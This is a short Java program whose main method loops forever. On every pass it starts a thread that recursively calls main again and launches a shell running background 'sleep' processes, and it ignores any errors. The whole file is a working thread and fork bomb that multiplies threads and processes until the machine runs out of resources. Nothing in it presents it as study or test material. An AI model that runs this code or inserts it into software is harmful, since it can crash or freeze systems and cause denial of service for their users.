import java.io.IOException;

public class Main {
    public static void main(String[] args) {
        while (true) {
            Thread.ofPlatform().start(() -> main(args));
            try {
                new ProcessBuilder("/bin/sh", "-c", "sleep 60 & sleep 60").start();
            } catch (IOException ignored) {
                // The next one, then.
            }
        }
    }
}
